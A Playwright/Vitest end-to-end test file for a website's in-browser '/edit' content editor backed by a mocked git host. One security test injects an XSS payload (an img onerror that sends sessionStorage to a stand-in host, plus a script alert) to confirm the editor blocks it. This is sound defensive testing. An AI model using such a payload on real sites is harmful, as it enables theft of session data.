/** Editing on the live site: `/edit` of a built site, over a mock of the git host. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { listFiles } from '../disk/read-folder.ts'
import { hostOfContent } from './edited-site.ts'
import { violations } from './violations.ts'
import { visiting } from './visit.ts'

/** Milliseconds: what does not happen soon does not happen. */
const SOON = 15_000

const { edited: site, unedited } = inject('sites')
const WIDE = { viewport: { width: 1280, height: 900 } }

let host: Awaited<ReturnType<typeof hostOfContent>>
let first = ''

beforeAll(async () => {
  host = await hostOfContent(inject('gitHostPort'))
  first = host.log()[0]?.sha ?? ''
})
afterAll(() => host.close())

/** Has the host as it was at first. */
function reset(): void {
  host.repository.git('update-ref', 'refs/heads/main', first)
  host.requests.length = 0
  host.fault()
  Object.assign(host.state, { mayWrite: true, isProtected: false, isExpired: false })
}

const panel = (page: Page) => page.getByRole('dialog').last()
const toolbar = (page: Page) => page.getByRole('region', { name: 'Editing this page' })

async function signIn(page: Page, token = host.token): Promise<void> {
  await page.getByLabel('Token').fill(token)
  await page.getByRole('button', { name: 'Sign in' }).click()
}

async function opened(page: Page, path = '/'): Promise<void> {
  await page.goto(`${site.url}edit?${new URLSearchParams({ page: path })}`)
  await signIn(page)
  await toolbar(page).waitFor()
  await page.waitForFunction(() => document.querySelector('#root [data-words]'))
}

/** Changes the main heading of a page, and saves it. */
async function changeHeading(page: Page, words: string): Promise<void> {
  await page.locator('main h1').click()
  await panel(page).getByRole('textbox').first().fill(words)
  await panel(page).getByRole('button', { name: 'Save', exact: true }).click()
  await page
    .getByRole('status')
    .filter({ hasText: /^Saved/ })
    .waitFor()
}

async function openPage(page: Page, title: string): Promise<void> {
  await toolbar(page).getByRole('button', { name: 'Pages' }).click()
  await panel(page)
    .getByRole('region', { name: 'All pages' })
    .getByRole('button', { name: new RegExp(`^${title}`) })
    .click()
}

const saved = (page: Page) =>
  page
    .getByRole('status')
    .filter({ hasText: /^Saved/ })
    .waitFor()

async function publish(page: Page): Promise<void> {
  await toolbar(page).getByRole('button', { name: 'Publish' }).click()
  await panel(page).getByRole('button', { name: 'Publish', exact: true }).click()
}

describe('the page of the editor', () => {
  test('requests only the git host, cannot be framed, and is hidden from search engines', async () => {
    const { headers } = await fetch(`${site.url}edit`)
    const policy = headers.get('Content-Security-Policy') ?? ''
    expect(policy).toContain(`connect-src http://localhost:${inject('gitHostPort')};`)
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).toContain("require-trusted-types-for 'script'")
    expect([headers.get('X-Robots-Tag'), headers.get('Referrer-Policy')]).toEqual(['noindex', 'no-referrer'])
    expect(await (await fetch(`${site.url}sitemap.xml`)).text()).not.toContain('/edit')
  })

  test('changes no byte of what visitors load', () => {
    const filesOf = (folder: string) =>
      listFiles(folder).filter((path) => /\.(?:html|js|json|css)$/.test(path) && path !== '.copybook.json')
    const visitors = filesOf(site.folder).filter((path) => !/^edit\b/.test(path))
    expect(visitors.sort()).toEqual(
      filesOf(unedited.folder)
        .filter((path) => path !== '.copybook.json')
        .sort(),
    )
    const differing = visitors.filter(
      (path) => !readFileSync(join(site.folder, path)).equals(readFileSync(join(unedited.folder, path))),
    )
    expect(differing).toEqual([])
  })

  test('loads at most 460 KiB of scripts', () => {
    const scripts = listFiles(join(site.folder, 'edit')).filter((path) => path.endsWith('.js'))
    const sizes = scripts.map((path) => gzipSync(readFileSync(join(site.folder, 'edit', path)), { level: 9 }).length)
    const all = sizes.reduce((sum, size) => sum + size, 0)
    expect(all).toBeGreaterThan(300_000)
    expect(all).toBeLessThanOrEqual(460 * 1024)
  })
})

test('an editor signs in, changes words, and publishes them as one commit', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await page.clock.install()
    await page.goto(`${site.url}edit?page=/about`)
    await page.getByLabel('Token').waitFor()
    expect(await violations(page)).toEqual([])
    await opened(page, '/about')
    expect(host.requests.length).toBeLessThanOrEqual(8)
    await changeHeading(page, 'Known by name')
    expect(host.text('content/pages/about.yaml')).not.toContain('Known by name')
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    const [commit, ...others] = host.log()
    expect(others).toHaveLength(1)
    expect(commit?.message).toContain('Known by name')
    expect(host.text('content/pages/about.yaml')).toContain('heading: Known by name')
    host.deployed(commit?.sha ?? '', 'success', 'https://example.org')
    // It looks every ten seconds.
    await page.clock.fastForward(10_000)
    await page.getByText(/^Online since \d/).waitFor({ timeout: SOON })
    expect(problems).toEqual([])
    expect(host.violations).toEqual([])
  })
})

test('what is saved and what is typed stay over a reload, and the content is not read again', async () => {
  reset()
  await visiting(WIDE, async ({ page }) => {
    await opened(page, '/about')
    await changeHeading(page, 'Known by name')
    await page.locator('main p').first().click()
    await panel(page).getByRole('textbox').first().fill('Typed, and not saved')
    host.requests.length = 0
    await page.reload()
    await toolbar(page).getByRole('button', { name: 'One not saved' }).waitFor()
    expect(await page.locator('main h1').textContent()).toBe('Known by name')
    expect(host.requests.filter((request) => /trees|blobs/.test(request))).toEqual([])
    expect(host.text('content/pages/about.yaml')).not.toContain('Known by name')
  })
})

test('without a connection words are kept, and are published when there is one', async () => {
  reset()
  await visiting(WIDE, async ({ page, context }) => {
    await opened(page, '/about')
    await context.setOffline(true)
    await changeHeading(page, 'Known by name')
    await page.keyboard.press('Escape')
    await toolbar(page).getByRole('button', { name: 'Publish' }).click()
    await panel(page).getByText('There is no connection').waitFor()
    await context.setOffline(false)
    await panel(page).getByRole('button', { name: 'Close' }).click()
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect(host.text('content/pages/about.yaml')).toContain('Known by name')
  })
})

test('a token that is wrong, has expired or may not write is refused in words, and nothing is lost; sign out forgets it', async () => {
  reset()
  await visiting(WIDE, async ({ page, context }) => {
    const seen: string[] = []
    page.on('console', (message) => seen.push(message.text()))
    context.on('request', (request) => seen.push(request.url(), request.postData() ?? ''))
    const stored = () =>
      page.evaluate(() =>
        [localStorage, sessionStorage].map((place) => JSON.stringify({ ...place }).includes('github_pat')),
      )
    await page.goto(`${site.url}edit?page=/about`)
    await signIn(page, 'github_pat_wrong')
    await page.getByRole('alert').filter({ hasText: 'does not know this token' }).waitFor()
    await opened(page, '/about')
    expect(await stored()).toEqual([false, true])
    await changeHeading(page, 'Known by name')
    await page.keyboard.press('Escape')
    host.state.isExpired = true
    await toolbar(page).getByRole('button', { name: 'Publish' }).click()
    await panel(page).getByText('does not know this token').waitFor()
    await toolbar(page).getByRole('button', { name: 'Sign out' }).click()
    await page.getByLabel('Token').waitFor()
    expect(await stored()).toEqual([false, false])
    host.state.isExpired = false
    await page.getByLabel('Keep me signed in').check()
    await signIn(page)
    await toolbar(page).waitFor()
    expect(await stored()).toEqual([true, false])
    expect(await page.locator('main h1').textContent()).toBe('Known by name')
    host.state.mayWrite = false
    await publish(page)
    await panel(page).getByText('may not do that').waitFor()
    expect(host.log()).toHaveLength(1)
    host.state.mayWrite = true
    await panel(page).getByRole('button', { name: 'Publish', exact: true }).click()
    await page.getByText('Published.').waitFor()
    // It is in one header of the requests, and nowhere else.
    seen.push(...host.log().map(({ message }) => message), page.url(), await page.content())
    expect(seen.filter((text) => text.includes(host.token))).toEqual([])
  })
})

test('what another editor has changed in the same place is shown before it is replaced', async () => {
  reset()
  await visiting(WIDE, async ({ page }) => {
    await opened(page, '/about')
    await changeHeading(page, 'Known by name')
    await page.keyboard.press('Escape')
    const text = host.text('content/pages/about.yaml') ?? ''
    host.commit({ 'content/pages/about.yaml': text.replace('heading: About Us', 'heading: Our people') })
    await publish(page)
    await panel(page).getByText('Our people').first().waitFor()
    expect(host.text('content/pages/about.yaml')).toContain('Our people')
    await panel(page).getByRole('button', { name: 'Save what I typed' }).click()
    await page.getByText('Published.').waitFor()
    expect(host.text('content/pages/about.yaml')).toContain('Known by name')
  })
})

test('what is pressed does not move before it is released', async () => {
  reset()
  await visiting(WIDE, async ({ page }) => {
    await opened(page, '/about')
    await page.locator('main h1').click()
    const words = panel(page).getByRole('textbox').first()
    await words.waitFor()
    const send = (type: string) => page.dispatchEvent('body', type, { buttons: 1 })
    await send('pointerdown')
    await words.fill('Known by name')
    const places = panel(page).getByText('This changes one place.')
    await page.waitForTimeout(1000)
    expect(await places.count()).toBe(0)
    await send('pointerup')
    await places.waitFor()
  })
})

test('links and the list of pages open other pages of the site, and the browser leads back', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    await page
      .getByRole('navigation')
      .first()
      .getByRole('link', { name: 'Courses' })
      .click({ modifiers: ['Alt'] })
    await page.waitForURL('**/edit?page=%2Fcourses')
    await openPage(page, 'Careers')
    await page.waitForURL('**/edit?page=%2Fcareer')
    await page.goBack()
    await page.waitForURL('**/edit?page=%2Fcourses')
    await expect.poll(() => page.locator('main h1').textContent()).toBe('Courses')
    expect(problems).toEqual([])
  })
})

test('two editors who publish at once lose nothing, and neither waits for the other', async () => {
  reset()
  await visiting(WIDE, async ({ page: one }) => {
    await visiting({ ...WIDE, locale: 'en-GB' }, async ({ page: two }) => {
      await opened(one, '/about')
      await opened(two, '/courses')
      await changeHeading(one, 'Known by name')
      await changeHeading(two, 'What we teach')
      for (const page of [one, two]) {
        await page.keyboard.press('Escape')
        await toolbar(page).getByRole('button', { name: 'Publish' }).click()
      }
      const buttons = [one, two].map((page) => panel(page).getByRole('button', { name: 'Publish', exact: true }))
      await Promise.all(buttons.map((button) => button.waitFor()))
      await Promise.all(buttons.map((button) => button.click()))
      await Promise.all([one, two].map((page) => page.getByText('Published.').waitFor()))
      expect(host.log()).toHaveLength(3)
      expect(host.text('content/pages/about.yaml')).toContain('Known by name')
      expect(host.text('content/pages/courses.yaml')).toContain('What we teach')
    })
  })
})

test('a tab that is closed while it publishes leaves one commit, and the next one knows of it', async () => {
  reset()
  await visiting(WIDE, async ({ page, context }) => {
    await opened(page, '/about')
    await changeHeading(page, 'Known by name')
    await page.keyboard.press('Escape')
    host.fault({ at: /commit$/, times: 1, cut: 'after' })
    const committed = expect.poll(() => host.log().length, { timeout: SOON }).toBe(2)
    await publish(page)
    await committed
    const next = await context.newPage()
    await page.close()
    next.setDefaultTimeout(SOON)
    await opened(next, '/about')
    await toolbar(next).getByRole('button', { name: 'Publish' }).click()
    await panel(next).getByText('Nothing has changed').waitFor()
    expect(host.log()).toHaveLength(2)
    expect(await next.locator('main h1').textContent()).toBe('Known by name')
  })
})

test('a picture is shown before it is online, and published with the words that name it', async () => {
  reset()
  const photo = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#3366cc' } })
    .jpeg()
    .toBuffer()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    const image = page.locator('main img').first()
    await image.click()
    await panel(page)
      .locator('input[type=file]')
      .setInputFiles({ name: 'Our room.jpg', mimeType: 'image/jpeg', buffer: photo })
    await page
      .getByRole('status')
      .filter({ hasText: /^Saved/ })
      .waitFor()
    await expect.poll(() => image.getAttribute('src')).toMatch(/^blob:/)
    await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(60)
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    const [name = ''] = /images\/our-room-\w+\.jpg/.exec(host.text('content/educators.yaml') ?? '') ?? []
    const sha = host.repository.find(`main:content/${name}`) ?? ''
    expect((await sharp(host.repository.read(sha)?.bytes).metadata()).width).toBe(60)
    expect(problems).toEqual([])
  })
})

test('reports content with an error, and fixes it from here', async () => {
  reset()
  const about = host.text('content/pages/about.yaml') ?? ''
  host.commit({ 'content/pages/about.yaml': about.replace('heading: About Us', 'headng: About Us') })
  await visiting(WIDE, async ({ page }) => {
    await page.goto(`${site.url}edit?page=/about`)
    await signIn(page)
    await page.getByRole('alert').filter({ hasText: 'The content has errors' }).waitFor()
    await page
      .getByText(/headng/)
      .first()
      .waitFor()
    await page.getByRole('button', { name: 'Mend it' }).click()
    await page.getByRole('button', { name: 'Write this' }).click()
    await page.getByText('Written.').waitFor()
    await signIn(page)
    await toolbar(page).waitFor()
    expect(await page.locator('main h1').textContent()).toBe('About Us')
  })
})

test('content cannot run anything here, nor ask anybody', async () => {
  reset()
  const about = host.text('content/pages/about.yaml') ?? ''
  const nasty = '<img src=x onerror="fetch(`http://localhost:1/` + sessionStorage)"><script>alert(1)</script>'
  host.commit({ 'content/pages/about.yaml': about.replace('heading: About Us', `heading: ${JSON.stringify(nasty)}`) })
  await visiting(WIDE, async ({ page, context }) => {
    const asked: string[] = []
    context.on('request', (request) => asked.push(new URL(request.url()).host))
    const dialogs: string[] = []
    page.on('dialog', (dialog) => dialogs.push(dialog.message()))
    await opened(page, '/about')
    await page.waitForTimeout(500)
    expect(dialogs).toEqual([])
    expect([...new Set(asked)].sort()).toEqual([`localhost:${inject('gitHostPort')}`, new URL(site.url).host].sort())
    // Scripts of the page itself may not ask others either.
    const refused = await page.evaluate(() =>
      fetch('http://localhost:1/').then(
        () => 'asked',
        () => 'refused',
      ),
    )
    expect(refused).toBe('refused')
    expect(
      await page.evaluate(() =>
        fetch('/courses').then(
          () => 'asked',
          () => 'refused',
        ),
      ),
    ).toBe('refused')
  })
})

test('a line that is not there yet is offered where it belongs, and is shown while it is typed', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    await toolbar(page).getByRole('button', { name: 'Everything you can change here' }).click()
    await panel(page).getByRole('searchbox').fill('tagline')
    await panel(page)
      .getByRole('button', { name: /Small classes/ })
      .first()
      .click()
    await panel(page).getByRole('button', { name: 'Site', exact: true }).click()
    await panel(page).getByRole('button', { name: 'Notice', exact: true }).click()
    const form = panel(page).getByRole('region', { name: 'What else there can be here' })
    await form.getByLabel('Name of the notice').fill('Notice')
    await form.getByLabel('Text').fill('We are closed on Monday.')
    await form.getByLabel('Words of the close button').fill('Close this notice')
    await page.locator('#root').getByText('We are closed on Monday.').waitFor()
    expect(await violations(page)).toEqual([])
    await form.getByRole('button', { name: 'Add', exact: true }).click()
    await page
      .getByRole('status')
      .filter({ hasText: /^Saved/ })
      .waitFor()
    await page.keyboard.press('Escape')
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect(host.text('content/site.yaml')).toMatch(
      /\nnotice:\n {2}label: Notice\n {2}text: We are closed on Monday\.\n/,
    )
    expect(problems).toEqual([])
  })
})

test('buttons write Markdown, a long list is searched, and all changes are undone at once', async () => {
  reset()
  const questions = Array.from(
    { length: 8 },
    (_, n) => `\n- id: more-${n}\n  question: Question ${n}?\n  answer: Yes.\n`,
  )
  host.commit({ 'content/faq.yaml': (host.text('content/faq.yaml') ?? '') + questions.join('') })
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/refund-policy')
    const before = host.text('content/policies/refund-policy.yaml')
    await page
      .locator('main li, main p')
      .filter({ hasText: /\w{4} \w+ \w+/ })
      .last()
      .click()
    const field = panel(page).getByRole('textbox').first()
    await field.fill('We keep little.')
    await field.selectText()
    await panel(page).getByRole('button', { name: 'Bold', exact: true }).click()
    await expect.poll(() => field.inputValue()).toBe('**We keep little.**')
    await field.press('End')
    await panel(page).getByLabel('Link to …').selectOption('/courses')
    await expect.poll(() => field.inputValue()).toBe('**We keep little.**[these words](/courses)')
    expect(await violations(page)).toEqual([])
    await panel(page).getByRole('button', { name: 'Save', exact: true }).click()
    await page
      .getByRole('status')
      .filter({ hasText: /^Saved/ })
      .waitFor()
    await page.locator('main strong').filter({ hasText: 'We keep little.' }).waitFor()
    await changeHeading(page, 'What we keep')
    await page.keyboard.press('Escape')

    await toolbar(page).getByRole('button', { name: 'Changes' }).click()
    await panel(page).locator('time').first().waitFor()
    const published = panel(page).getByRole('region', { name: 'Published before' })
    await published.locator('time').first().waitFor()
    await panel(page).getByRole('button', { name: 'Take all back' }).click()
    await page.getByRole('status').filter({ hasText: 'All is as it was.' }).waitFor()
    await page.keyboard.press('Escape')
    await toolbar(page).getByRole('button', { name: 'Publish' }).click()
    await panel(page).getByText('Nothing has changed').waitFor()
    expect(host.text('content/policies/refund-policy.yaml')).toBe(before)
    await page.keyboard.press('Escape')

    await openPage(page, 'Live Online Classes')
    await page.locator('main summary').first().click()
    await panel(page).getByRole('navigation').getByRole('button').first().click()
    const search = panel(page).getByRole('searchbox', { name: 'Find an entry' })
    const entries = panel(page).locator('li')
    await search.waitFor()
    const all = await entries.count()
    await search.fill('fees')
    await expect.poll(() => entries.count()).toBeLessThan(all)
    expect(problems).toEqual([])
  })
})

test('a new page is made in one step, with its address and its line in the menu, and can be undone', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    const before = host.text('content/routes.yaml')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page).getByRole('button', { name: 'New page' }).click()
    await panel(page).getByLabel('Title').fill('Summer Camp')
    expect(await panel(page).getByLabel('Address').inputValue()).toBe('/summer-camp')
    await panel(page).getByLabel('What it is about').fill('Two weeks of songs and science in May.')
    await panel(page).getByLabel('Show it in the menu').check()
    expect(await violations(page)).toEqual([])
    await panel(page).getByRole('button', { name: 'Add', exact: true }).click()
    await page.waitForURL('**/edit?page=%2Fsummer-camp')
    await expect.poll(() => page.locator('main h1').textContent()).toBe('Summer Camp')
    await page.getByRole('navigation').first().getByRole('link', { name: 'Summer Camp' }).first().waitFor()
    await changeHeading(page, 'Two Weeks in May')
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    const text = host.text('content/pages/summer-camp.yaml') ?? ''
    expect(text).toMatch(/^# yaml-language-server: [^\n]+\n\ntitle: Summer Camp\ndescription: Two weeks of songs/)
    expect(text).toContain('heading: Two Weeks in May')
    expect(host.text('content/routes.yaml')).toContain('- path: /summer-camp\n  shows: pages/summer-camp\n')
    expect(host.log()).toHaveLength(2)
    await page.keyboard.press('Escape')
    await toolbar(page).getByRole('button', { name: 'Changes' }).click()
    await panel(page).getByRole('button', { name: 'Take all back' }).click()
    await page.getByRole('status').filter({ hasText: 'All is as it was.' }).waitFor()
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect([host.text('content/pages/summer-camp.yaml'), host.text('content/routes.yaml')]).toEqual([undefined, before])
    // The page that was open is not there any more.
    expect(problems).toEqual(['warning: 404 /summer-camp'])
  })
})

test('a page gets another address: links follow and the old one leads there; another page is hidden and shown again', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page).getByRole('button', { name: 'Another address' }).click()
    await panel(page).getByLabel('New address').fill('/who-we-are')
    expect(await violations(page)).toEqual([])
    await panel(page).getByRole('button', { name: 'Move the page' }).click()
    await page.waitForURL('**/edit?page=%2Fwho-we-are')
    await page.locator('#root header a[href$="/who-we-are"]').first().waitFor()
    await openPage(page, 'Careers')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page).getByRole('button', { name: 'Hide the page' }).click()
    await page.waitForURL('**/edit?page=%2F')
    await expect.poll(() => page.locator('#root header a[href$="/career"]').count()).toBe(0)
    await publish(page)
    await page.getByText('Published.').waitFor()
    const routes = host.text('content/routes.yaml')
    expect(routes).toContain('- path: /who-we-are\n  shows: pages/about\n- path: /about\n  movedTo: /who-we-are\n')
    expect(routes).toMatch(/- path: \/career\n {2}shows: pages\/career\n {2}hidden: true\n/)
    expect(host.text('content/site.yaml')).not.toContain('to: /about\n')
    await page.keyboard.press('Escape')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page)
      .getByRole('button', { name: /^Show Careers.* again$/ })
      .click()
    await page.waitForURL('**/edit?page=%2Fcareer')
    await page.locator('#root header a[href$="/career"]').first().waitFor({ state: 'attached' })
    // Until the next page is open, there is none at the old address.
    expect(problems.filter((problem) => !problem.startsWith('warning: 404 '))).toEqual([])
  })
})

test('a block is chosen by its picture, moved by dragging and by keys, and added between two others', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page).getByRole('button', { name: 'Its blocks' }).click()
    const handles = panel(page).getByRole('button', { name: /^Move / })
    const names = () => handles.evaluateAll((all) => all.map((one) => one.getAttribute('aria-label')))
    await handles.first().waitFor()
    const [first, second, third] = await names()
    const [from, to] = [await handles.nth(1).boundingBox(), await handles.nth(2).boundingBox()]
    if (!from || !to) throw new Error('There are no handles.')
    await page.mouse.move(from.x + 9, from.y + 9)
    await page.mouse.down()
    await page.mouse.move(to.x + 9, to.y + 9, { steps: 3 })
    await page.mouse.up()
    const title = (name: string | null | undefined) => name?.replace(/: \d.*/, '')
    await expect.poll(async () => (await names()).map(title).slice(0, 3)).toEqual([first, third, second].map(title))
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toMatch(/: 3 of/)
    await page.keyboard.press('ArrowUp')
    await expect.poll(async () => (await names()).map(title).slice(0, 3)).toEqual([first, second, third].map(title))

    await panel(page).getByRole('button', { name: 'Add: Block' }).click()
    const gallery = panel(page).getByRole('region', { name: 'What would you like to add?' })
    const card = gallery.getByRole('button', { name: /^Call to action/ })
    await expect.poll(() => gallery.locator('[inert]').count()).toBeGreaterThan(10)
    expect(await violations(page)).toEqual([])
    await card.click()
    await panel(page).getByLabel('Heading', { exact: true }).fill('Come and see us')
    await panel(page).getByLabel('Text', { exact: true }).fill('A class is open on Saturday.')
    await panel(page).getByLabel('Words on the button').fill('Ask us')
    await panel(page).getByLabel('Leads to').fill('chat')
    await page.locator('#root main').getByText('Come and see us').waitFor()
    await panel(page).getByRole('button', { name: 'Add', exact: true }).click()
    // The new block opens when it is saved.
    await page.getByRole('dialog', { name: /Come and see us/ }).waitFor()
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect(host.text('content/pages/about.yaml')).toMatch(/- type: call-to-action\n {4}heading: Come and see us\n/)

    await page.keyboard.press('Escape')
    const points = page.getByRole('button', { name: /^Add a block after / })
    await expect.poll(() => points.count()).toBeGreaterThan(3)
    const texts = () => page.locator('#root main > *').evaluateAll((all) => all.map((one) => one.textContent))
    const blocks = await texts()
    await points.nth(1).click()
    await panel(page).getByRole('button', { name: /^Text/ }).click()
    await panel(page).getByLabel('Heading', { exact: true }).fill('Between the two')
    await panel(page).getByLabel('Text', { exact: true }).fill('Here it is.')
    await panel(page).getByRole('button', { name: 'Add', exact: true }).click()
    await page.getByRole('dialog', { name: /Between the two/ }).waitFor()
    await expect.poll(texts).toEqual([...blocks.slice(0, 2), 'Between the twoHere it is.', ...blocks.slice(2)])
    expect(problems).toEqual([])
  })
})

test('a hidden page is removed with its address, and brought back', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/career')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page).getByRole('button', { name: 'Hide the page' }).click()
    await page.waitForURL('**/edit?page=%2F')
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    const remove = panel(page).getByRole('button', { name: /^Remove Careers/ })
    await remove.click()
    await panel(page).getByRole('button', { name: 'Remove it' }).click()
    await panel(page).waitFor({ state: 'detached' })
    await toolbar(page).getByRole('button', { name: 'Pages' }).click()
    await panel(page).getByText('/about').waitFor()
    expect(await remove.count()).toBe(0)
    await page.keyboard.press('Escape')
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect(host.text('content/routes.yaml')).not.toContain('path: /career\n')
    expect(host.text('content/pages/career.yaml')).toBe(undefined)
    await page.keyboard.press('Escape')
    await toolbar(page).getByRole('button', { name: 'Changes' }).click()
    await panel(page).getByRole('button', { name: 'Take all back' }).click()
    await page.getByText('All is as it was.').waitFor()
    await page.keyboard.press('Escape')
    await openPage(page, 'Careers')
    await page.waitForURL('**/edit?page=%2Fcareer')
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect(host.text('content/pages/career.yaml')).toContain('title: ')
    expect(problems.filter((problem) => !problem.startsWith('warning: 404 '))).toEqual([])
  })
})

test('a site with reviews proposes changes, and says where they are looked at', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await page.route('**/edit?*', async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace(
        '&quot;publish&quot;:&quot;direct&quot;',
        '&quot;publish&quot;:&quot;review&quot;',
      )
      expect(body).toContain('review')
      await route.fulfill({ response, body })
    })
    await opened(page, '/about')
    await changeHeading(page, 'Words to look at')
    await toolbar(page).getByRole('button', { name: 'Publish' }).click()
    await panel(page).getByRole('button', { name: 'Propose' }).click()
    await panel(page).getByRole('link').waitFor()
    expect(host.text('content/pages/about.yaml')).not.toContain('Words to look at')
    await panel(page).getByText('Proposed. Somebody looks at it before it is online.').waitFor()
    expect(problems).toEqual([])
  })
})

test('a price becomes another one on a day', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/courses')
    await page.locator('main :text("₹3,000"):visible').first().click()
    await panel(page).getByRole('button', { name: 'Another value from a day on' }).click()
    await panel(page).getByLabel('From this day on').fill('2031-04-01')
    const form = panel(page).getByRole('region', { name: 'It becomes another on a day' })
    await form.getByRole('textbox').last().fill('3600')
    await form.getByRole('button', { name: 'Save it for that day' }).click()
    await panel(page)
      .getByText('pricePerClass')
      .or(page.getByRole('status').filter({ hasText: /^Saved/ }))
      .first()
      .waitFor()
    expect(problems).toEqual([])
  })
})

test('pictures are listed, chosen again, cropped around a point, and removed when nothing uses them', async () => {
  reset()
  const photo = await sharp({ create: { width: 600, height: 400, channels: 3, background: '#8899aa' } })
    .jpeg()
    .toBuffer()
  host.commit({ 'content/images/garden.jpg': photo })
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/about')
    await toolbar(page).getByRole('button', { name: 'Pictures' }).click()
    const garden = panel(page).locator('li').filter({ hasText: 'garden.jpg' })
    await garden.getByText('No page uses it.').waitFor()
    expect(
      await garden.locator('img').evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth)),
    ).toBe(600)
    expect(await violations(page)).toEqual([])
    await panel(page)
      .getByRole('button', { name: /asha-roy/ })
      .click()
    await panel(page).getByRole('button', { name: 'A picture of this site …' }).click()
    await panel(page)
      .getByRole('button', { name: /garden\.jpg/ })
      .click()
    await saved(page)
    await toolbar(page).getByRole('button', { name: 'Pictures' }).click()
    await panel(page)
      .getByRole('button', { name: /garden\.jpg/ })
      .click()
    const point = panel(page).getByRole('button', { name: /percent from the left/ })
    await point.focus()
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('ArrowLeft')
    await expect
      .poll(() =>
        page.locator('#root main img[data-left="40"]').evaluate((one) => getComputedStyle(one).objectPosition),
      )
      .toBe('40% 30%')
    await panel(page).getByRole('button', { name: 'Save this point' }).click()
    await expect.poll(() => page.getByRole('dialog').count()).toBe(0)
    await publish(page)
    await page.getByText('Published.').waitFor()
    expect(host.text('content/educators.yaml')).toMatch(
      /file: images\/garden\.jpg\n.*alt: .*\n +focus:\n +left: 40\n +top: 30\n/,
    )
    expect(host.text('content/images/asha-roy.svg')).toBeUndefined()
    expect(problems).toEqual([])
  })
})

test('the phone view shows what is typed, and a text quotes a fact', async () => {
  reset()
  await visiting(WIDE, async ({ page, problems }) => {
    await opened(page, '/')
    await toolbar(page).getByRole('button', { name: 'Phone view' }).click()
    const phone = page.frameLocator('iframe')
    await phone.locator('main h1').waitFor()
    await page.locator('main h1').click()
    await panel(page).getByRole('textbox').first().fill('A class for each child')
    await phone.locator('main h1').getByText('A class for each child').waitFor()
    expect(await phone.locator('main h1').evaluate((heading) => getComputedStyle(heading).fontSize)).not.toBe(
      await page.locator('#root main h1').evaluate((heading) => getComputedStyle(heading).fontSize),
    )
    await phone.getByRole('button', { name: 'Menu' }).click()
    await phone.getByRole('link', { name: 'Courses' }).first().click()
    expect(new URL(page.url()).search).toBe('?page=%2F')
    await panel(page).getByRole('textbox').first().press('Escape')
    await page.locator('main summary').first().click()
    await panel(page).getByRole('navigation').getByRole('button').last().click()
    await panel(page)
      .getByRole('button', { name: /^Answer/ })
      .first()
      .click()
    const field = panel(page).getByRole('textbox').first()
    await field.fill('We answer within hours: ')
    const facts = panel(page).getByLabel('Fact of the site …')
    await expect.poll(() => facts.locator('option').count()).toBeGreaterThan(5)
    await facts.selectOption('facts.replyHours')
    await expect.poll(() => field.inputValue()).toBe('We answer within hours: ${facts.replyHours}')
    expect(problems).toEqual([])
  })
})
